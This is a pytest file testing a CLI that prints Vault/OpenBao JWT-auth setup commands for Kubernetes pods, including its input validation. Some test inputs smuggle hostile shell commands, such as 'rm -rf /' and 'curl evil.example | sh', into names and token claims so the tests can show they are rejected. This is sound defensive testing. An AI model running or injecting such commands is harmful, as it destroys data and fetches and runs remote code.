"""``cfke-auth vault setup``: the script it prints, from the pod's token or from arguments alone, and a one-line
error with exit status 2 (never a traceback) for every bad input. tests/test_vault_client.py runs the printed
commands against a real OpenBao server."""

from __future__ import annotations

import pytest

from cfke_auth.cli import main
from cfke_auth.testing import OidcIssuer, TokenFile

pytestmark = pytest.mark.cfke_token(namespace="shop", service_account="api", audience="vault")

CLUSTER = "https://api.cloudfleet.ai/v1/clusters/0c1d"
EVERYTHING = ["--cluster-id", "0c1d", "--namespace", "shop", "--service-account", "api"]


def _setup(capsys: pytest.CaptureFixture[str], *args: str) -> list[str]:
    """The commands printed (comment lines dropped)."""
    assert main(["vault", "setup", "--role", "app", "--policy", "app", *args]) == 0
    return [line for line in capsys.readouterr().out.splitlines() if not line.startswith("#")]


def test_setup_from_the_pod_token(
    capsys: pytest.CaptureFixture[str], cfke_token_file: TokenFile, cfke_issuer: OidcIssuer
) -> None:
    issuer = cfke_issuer.issuer
    assert _setup(capsys) == [
        "vault auth enable -path=jwt jwt",
        f"vault write auth/jwt/config oidc_discovery_url={issuer} bound_issuer={issuer}",
        "vault write auth/jwt/role/app role_type=jwt user_claim=sub bound_subject=system:serviceaccount:shop:api "
        "bound_audiences=vault token_policies=app token_ttl=1h token_max_ttl=24h",
    ]


def test_setup_from_arguments_alone(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CFKE_TOKEN_FILE", "/nowhere/token")  # not read: everything is given
    commands = _setup(
        capsys,
        *EVERYTHING,
        *("--policy", "b,c", "--audience", "https://vault.example.com", "--keys", "jwks", "--mount", "cfke/prod"),
        *("--vault-namespace", "team-a", "--token-ttl", "20m", "--token-max-ttl", "2h", "--cli", "bao"),
    )
    assert commands == [
        "bao auth enable -namespace=team-a -path=cfke/prod jwt",
        f"bao write -namespace=team-a auth/cfke/prod/config jwks_url={CLUSTER}/openid/v1/jwks bound_issuer={CLUSTER}",
        "bao write -namespace=team-a auth/cfke/prod/role/app role_type=jwt user_claim=sub "
        "bound_subject=system:serviceaccount:shop:api bound_audiences=https://vault.example.com "
        "token_policies=app,b,c token_ttl=20m token_max_ttl=2h",
    ]


def test_the_script_says_how_the_pod_logs_in(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["vault", "setup", "--role", "app", "--policy", "app", *EVERYTHING, "--vault-namespace", "t"]) == 0
    script = capsys.readouterr().out
    assert "cfke_auth.get_vault_client('app', namespace='t')" in script
    assert "audience: vault" in script and "token_path" in script


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--role", "a b"], "--role 'a b' is not a valid Vault name"),
        (["--policy", "ok,-bad-"], "--policy '-bad-' is not a valid Vault name"),
        (["--token-ttl", "1 day"], "--token-ttl '1 day' is not a duration"),
        (["--audience", "a,b"], "audience 'a,b' must be one word"),
        (["--audience", "vault\nrm -rf /"], "must be one word"),
        (["--mount", "../sys"], "--mount '../sys' is not a Vault path"),
        (["--vault-namespace", "team a"], "is not a Vault path"),
        (["--namespace", "Shop"], "namespace 'Shop' is not a Kubernetes namespace name"),
        (["--service-account", "api;id"], "is not a Kubernetes service account name"),
        (["--cluster-id", "x/y"], "--cluster-id 'x/y' is not a valid Vault name"),
    ],
)
def test_bad_input_is_one_line_and_exit_2(
    capsys: pytest.CaptureFixture[str], args: list[str], message: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CFKE_TOKEN_FILE", "/nowhere/token")
    given = {"--role": "app", "--policy": "app", "--cluster-id": "0c1d", "--namespace": "shop"}
    given |= {"--service-account": "api", **dict(zip(args[::2], args[1::2], strict=True))}
    assert main(["vault", "setup", *[word for pair in given.items() for word in pair]]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.startswith("cfke-auth: ") and message in captured.err
    assert "Traceback" not in captured.err


def test_a_plain_http_issuer_off_loopback_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["vault", "setup", "--role", "a", "--policy", "p", "--issuer", "http://issuer.example"]) == 2
    assert "not an https:// URL" in capsys.readouterr().err


def test_names_from_an_unverified_token_cannot_reach_the_script(
    capsys: pytest.CaptureFixture[str], cfke_token_file: TokenFile
) -> None:
    cfke_token_file.rotate(namespace="shop\ncurl evil.example | sh", audience="vault")
    assert main(["vault", "setup", "--role", "app", "--policy", "app"]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and "is not a Kubernetes namespace name" in captured.err


def test_without_a_token_the_missing_pieces_are_named(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CFKE_TOKEN_FILE", "/nowhere/token")
    assert main(["vault", "setup", "--role", "app", "--policy", "app", "--cluster-id", "0c1d"]) == 1
    assert "/nowhere/token does not exist" in capsys.readouterr().err
